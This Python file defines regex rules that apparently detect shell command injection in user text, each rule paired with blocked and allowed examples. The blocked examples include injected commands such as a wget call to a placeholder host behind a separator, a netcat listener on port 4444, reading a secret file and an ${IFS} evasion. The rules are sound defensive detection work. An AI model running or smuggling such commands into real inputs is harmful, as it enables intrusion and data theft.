"""Code injection into a Unix shell: commands behind a separator, command lines, expansions, and probing marks.

A command is a name in a place where a shell expects one (the start, or behind ``;``, ``|``, ``&``, ``$(``, a backtick)
and something behind it that only a shell reads: an option, a path, a redirection, the end of the text.
"""

from __future__ import annotations

from service.stages.suspicion_rules.names import ENGLISH_PROGRAMS, PROGRAMS, WINDOWS_PROGRAMS, any_of
from service.stages.suspicion_rules.rule import Rule

_PROGRAM = any_of(f"{PROGRAMS} {WINDOWS_PROGRAMS}")
_ENGLISH_PROGRAM = any_of(ENGLISH_PROGRAMS)
# Names so short and so common in attacks that they need no argument behind a separator.
_SHORT = any_of("cat cp date df dir echo env id ipconfig ln ls mv nc net ping ps pwd rm set sh time type ver wc who")
_INTERPRETER = any_of("bash cat curl id java ls nc node perl php ps python python2 python3 ruby sh su who")
_INSTALLER = any_of("""
    ansible ansible-config ansible-doc ansible-galaxy ansible-inventory ansible-playbook ansible-vault apk apt
    apt-get brew cargo composer dnf docker docker-compose gem git go helm kubectl npm opkg pacman pip pip2 pip3 pipx
    pkg podman snap systemctl terraform yarn yum zypper
""")
_VERB = any_of("""
    add apply build checkout clone commit config create delete deploy diff disable dump enable exec get images info
    inspect install kill list log logs ps pull push reload remove restart rm run search show start status stop
    uninstall update upgrade
""")
_FOLDER = r"(?:[./~][a-z0-9_./-]{0,30}/)?"
_NETWORK = any_of("""
    curl dig ftp host lftp nc ncat netcat nslookup ping rsync scp sftp ssh telnet tftp traceroute wget whois
""")
_SEPARATOR = r"(?:[;|`\n]|&&|\$\(|<\(|[\"'] ?&|[0-9]&|^& ?)"
_SCRIPT = (
    r"(?:sh|py|pl|rb|ps1|ya?ml|lua|php|jar|gz|tgz|zip|tar|bz2|xz|7z|log|conf|cfg|ini|sql|bak|pem|key|db|so|exe|txt)"
)
# What only a shell takes behind a command: options, paths, files, redirections, variables, addresses.
_ARGUMENT = (
    r"[/\\~](?!r/|u/|(?<=~)[0-9])[^ ]|%[a-z]|[|;]{1,2}[a-z/]"
    r"|\| ?(?:sh|bash|tail|head|grep|less|more|wc|sort)\b|[<>] ?[/&]"
    r"|[<>][a-z]|> [a-z0-9_]{1,20}\.(?=[a-z0-9])|\$[a-z{(*@!]|\*|\.\.?(?:/|$)|[a-z]:[\\*]|[0-9]{1,3}\.[0-9]{1,3}\."
    rf"|https?:|[a-z0-9_/*-]{{1,40}}\.{_SCRIPT}(?![a-z0-9])|-[a-z0-9]{{1,2}}(?![a-z])|--[a-z]{{3,20}}(?![a-z-])"
)
# Words between two backticks, as a chat has them for quotes, in a sentence: the first is no program, and more follows.
_QUOTED = (
    rf"(?!(?:{_PROGRAM}|{_ENGLISH_PROGRAM}|{_SHORT})(?![a-z]))[a-z][a-z0-9-]{{1,20}}+(?: [a-z0-9-]{{1,20}}+){{0,3}}`"
    r",? [a-z&]"
)
_FLAG = r" (?:-{1,2}[a-z][a-z0-9-]{0,20}+[ =])?"
_PLAIN_ARGUMENT = rf"{_FLAG}(?:{_ARGUMENT})"
_LONG_ARGUMENT = rf"{_FLAG}(?:{_ARGUMENT}|-[a-z]{{1,6}} )"
_ANY_ARGUMENT = rf"{_FLAG}(?:{_ARGUMENT}|'[^']|[{{\"])"


RULES = (
    Rule(
        "code-injection",
        "piped-command",
        rf"{_SEPARATOR} ?[`\"'({{$]{{0,3}}{_FOLDER}{_PROGRAM}"
        r"(?:[`\"')}]{0,3}(?:$|[;|`\n#\\&<>$()])|[\"']? [^ ]|[{*+@]|,[-/])",
        "A separator of a shell followed by a program.",
        stops="127.0.0.1; wget http://x.example/a",
        passes="moms & dads; python and ruby developers | R&D",
    ),
    Rule(
        "code-injection",
        "piped-english-command",
        rf"{_SEPARATOR} ?[`\"'({{]{{0,3}}(?!at ?& ?t(?![a-z])){_FOLDER}{_ENGLISH_PROGRAM}"
        rf"(?:[`\"')}}]{{1,3}}(?![a-z])|[`\n#\\&<$]|{{,|{_LONG_ARGUMENT})"
        rf"|& ?{_PROGRAM}(?:$| [-/\"'$0-9])|& {_ENGLISH_PROGRAM}{_FLAG}(?:-[a-z]{{1,3}} |[/\\][a-z])|[;"
        rf"|&`\n] ?{_NETWORK} [a-z0-9.-]{{1,60}}\.[a-z0-9]"
        rf"|{_SEPARATOR} ?(?:echo|cat|perl|php|python|ruby|exec|export|alias|sh|bash|ls) [\"'$-]",
        "The same with a program whose name is a word: here its arguments must be those of a shell.",
        stops="x; cat ./secret",
        passes="moms & dads; top brands for kids | time savers; AT&T; top > toys. more",
    ),
    Rule(
        "code-injection",
        "piped-short-command",
        rf"(?:[;`\n]|(?:^[^ a-z]{{0,3}}[a-z]?\)?\||&&|\|\||^\W{{0,4}}&|\$\() ?){_FOLDER}"
        rf"(?!(?<=\b[a-z]{{2}};)nc(?:$|;)){_SHORT} ?(?:$|[;|&`#\n\\)])"
        r"|[;|`&(] ?sleep [0-9]|; (?:df|dir|env|ls|ps|pwd|sh)$|^pwd$"
        rf"|^(?:(?:cp|df|dir|echo|env|ls|mv|ps|pwd|rm|sh|ver|wc) ?[;|&]|(?:id|nc|w) ?[;|&]{{1,2}} ?(?:$|[^a-z ;|&]"
        rf"|(?:{_PROGRAM}|{_SHORT}|(?=[a-z]{{3}}){_ENGLISH_PROGRAM})(?![a-z])))"
        r"|[;|][a-z0-9_.]{1,20} (?:-[a-z]|/[a-z]|\$[a-z{(])"
        r"|\| ?(?:sudo )?(?:(?:ba|z|k|da|c)?sh|python[23]?|perl|ruby|php|node)$",
        "A separator of a shell, then one of its shortest commands and nothing else.",
        stops="a);id",
        passes="NC; SC; VA; hats | id cards; ls 300",
    ),
    Rule(
        "code-injection",
        "leading-separator",
        rf"^[\"')\];|&# ]{{0,4}}(?:[;|`]|&&|\$\() ?[\"'$(`]{{0,2}}{_FOLDER}(?:{_PROGRAM}|{_ENGLISH_PROGRAM})(?![a-z])"
        rf"|^& ?{_FOLDER}{_PROGRAM}(?![a-z])|^(?:;|\||&&|`(?!{_QUOTED})|\|\|)"
        rf"[ '\"]{{0,3}}[a-z./][a-z0-9_./-]{{0,30}}['\"]?"
        r"(?: -|[;|)`'\"&]|$(?<=[;|&][a-z]{2}))|^[;|][a-z./-]{2,20} [a-z/-]",
        "A text that begins with a separator of a shell: what comes next is meant to run.",
        stops=";rmt --version",
        passes="`premium` & `luxury` sedans; each; every",
    ),
    Rule(
        "code-injection",
        "command-line",
        rf"(?:^|[^a-z0-9_.-])(?=[a-z]){_PROGRAM}{_ANY_ARGUMENT}|\{{ ?{_FOLDER}{_PROGRAM}[ }},;]"
        rf"|^[({{!\"' ]{{1,4}}{_PROGRAM}(?:$|[)}}'\"] ?[^a-z ])|(?:^|[ ;])(?:do|then|else|if"
        rf"|while) {_FOLDER}{_PROGRAM}(?:$|[; ]-)"
        r"|^(?:(?:usr|opt)/)?(?:local/)?s?bin/[a-z]|^(?:python|perl|ruby|php|lua|gcc|nc)[0-9.]{1,5} [^ ]"
        r"|ssh (?:-[a-z] [^ ]{1,20} )?[a-z0-9_.-]{1,20}@[a-z0-9]|^ps aux(?! [a-z])"
        rf"|^[\"'(]?{_FOLDER}{_ENGLISH_PROGRAM}[\"']?{_PLAIN_ARGUMENT}"
        rf"|^[\"'(]?{_FOLDER}{_SHORT} (?:-[a-z]{{1,6}}(?: |$)|'[^']{{1,20}}$|\"|\$(?![0-9]{{2}}))"
        rf"|^{_NETWORK} [a-z0-9-]{{1,60}}\.[a-z0-9./:-]{{2,60}}(?: [0-9]{{1,5}})?$"
        rf"|^(?:cp|dd|ln|mv|rm|tar|chmod) [^ ]{{1,20}} (?:/|[^ ]{{1,30}}\.{_SCRIPT}$)"
        r"|^tar -?[a-z]{0,4}f |^su (?:-|root)|^docker run -|^git clone [^ ]{1,60}/|^env [a-z_]{1,20}="
        rf"|^(?:perl|php|python[23]?|ruby|node|sh|bash|su|env) -[a-z]{{1,3}} ",
        "A command line by itself: a program with arguments that only a shell takes.",
        stops="nc -lvvp 4444",
        passes="top > toys. ls 300 lexus, nc 8000 controller, watch -women, find /r/gaming readers",
    ),
    Rule(
        "code-injection",
        "run-by-another",
        r"^(?:busybox|builtin|chroot|command|cpulimit|doas|env|eval|exec|ionice|ltrace|nice|nohup|setsid|stdbuf|strace"
        r"|sudo|taskset"
        r"|time|timeout|type|unshare|valgrind|watch|which|whereis|xargs)(?: [-0-9][^ ]{0,20}+){0,3} "
        rf"{_FOLDER}(?:{_PROGRAM}|{_INTERPRETER})(?: -?[a-z0-9]{{1,12}}){{0,2}}$"
        rf"|^{_INSTALLER} {_VERB}(?: [a-z0-9@./_-]{{1,40}}+"
        r"){0,2}$|^sleep [0-9]{1,5}[smhd]?$|^alias (?:[-+][a-z+]{1,3} ){0,2}[^ =]{1,20}=|^shutdown(?: -[a-z]|$)"
        r"|; ?(?:done|fi|esac)(?![a-z])|\[\[? -[a-z] |(?:^|[^a-z])for [a-z]{1,8} in .{1,40};|(?:^|[;"
        r"|&`] ?)\.{1,2}/[a-z0-9_]"
        r"|^(?:\.|source) [^ ]{0,30}[/.]|^chmod (?:[0-7]{3,4}|[augo]{0,3}[+=-][rwxst])|^find [./~][^ ]{0,30} -"
        r"|^java -jar"
        r"|^(?:awk|echo|printf|sed) [\"'{%$\\]|^sed s[/|#,]|^service [a-z0-9-]{1,20} (?:start|stop|restart|status"
        r"|reload)$"
        r"|^\( ?(?:cat|id|ls|ps|pwd|who) ?\)$|^(?:cat|echo|id|ls|ps|w|who)(?![a-z0-9_]) ?(?:[^<>|]{0,20}[^ <>"
        r"|-])? ?[0-9]?[<>]{1,2} ?[&a-z./]"
        r"|^(?:export|declare|set|unset|local) [a-z_]{1,20}=",
        "A program that runs or installs another, an alias, or an order that stops the machine.",
        stops="nohup sh -c id",
        passes="time travel, which car to buy, sleep 8 hours, git clone wars",
    ),
    Rule(
        "code-injection",
        "telling-command",
        r"(?:^|[^a-z0-9])(?:whoami|[i]fconfig|ipconfig|netstat|systeminfo|sysinfo|uname|nslookup|printenv|lsof"
        r"|lsb_release"
        r"|hostnamectl|vmstat|lscpu|getent|tasklist|phpinfo)(?:$|[;|&`)'\" ,])",
        "A program that tells about the machine it runs on.",
        stops="uname -a",
        passes="names of houses, conflict figures",
    ),
    Rule(
        "code-injection",
        "shell-expansion",
        rf"(?:^|[^a-z0-9])`(?!{_QUOTED})[a-z/{{$(]"
        r"|\$\(|\$\{?ifs|[;|&<]\{(?![a-z0-9_. ]{1,30}\})[^}]|\{,|\(\) ?\{|:\(\)|<<<|[<>]\((?:\)|[a-z])|\$'"
        r"|\$\{?(?:cmd|shell|path|home|pwd|oldpwd|hostname|ostype|random|bash[a-z_]{0,12}|env|uid|user|term|ps[124]"
        r"|prompt_command|@|\*|\?|!)(?![a-z0-9])|(?:^|[ =])~[+-]|(?:^|[ ;|&])!(?:-?[0-9]|!(?!!)|\$|\?[a-z])"
        r"|[a-z]{2,8}=\$[\"'a-z]"
        r"|/[a-z]{0,5}[?*\[][a-z?*\[\]]{0,8}/[a-z?*\[]|/[a-z/]{0,12}\[[a-z^!-]{1,3}\][a-z]{0,8}(?:[ /]|$)|[0-9]?>&[0-9]"
        r"|> ?/dev/"
        r"|(?:^|;)[a-z]{1,8}=[^=; ]{1,20};.{0,40}\$|\{[^{}:\" ]{0,40},[^{}:\" ]{0,40}\}|/[a-z]{0,10}\$[a-z]"
        r"|\$\{[a-z0-9_]{1,20}(?:/|%|#|\^|,|:[-=?+0-9])"
        r"|\$[a-z]{1,3}/",
        "Substitution, groups, history and wildcards of a shell.",
        stops="cat${IFS}x",
        passes="$150k+ households & {kids}, didn`t, wow !?, `vintage` jeans, auto|{keyword}",
    ),
    Rule(
        "code-injection",
        "shell-redirection",
        r"> ?[a-z0-9_/.-]{1,40}\.(?:php|sh|txt|jsp|aspx?|log|html)(?![a-z0-9])(?! visitors)"
        rf"|[\"')](?! \| (?!(?:{_PROGRAM}|{_ENGLISH_PROGRAM})$)[a-z]{{2,20}}$) ?\|\|? ?[a-z/]{{2,20}}\|?$"
        r"|(?:^|[;\n\"' ])\. ?\\?[\"']?(?:shell|system)\b|^\.(?:import|read|open|output|once|load|dump|excel|backup"
        r"|restore) |\bbin/(?:(?:ba|z|k|c|da|tc)?sh|cat|ls|id|nc|perl"
        r"|python[23]?)\b|/dev/(?:null|tcp|udp|std)",
        "Output into a file, a shell by its path, or a chain of commands that goes on.",
        stops="echo x > rfi.php",
        passes="interest > php.net visitors (new) | baseball",
    ),
)
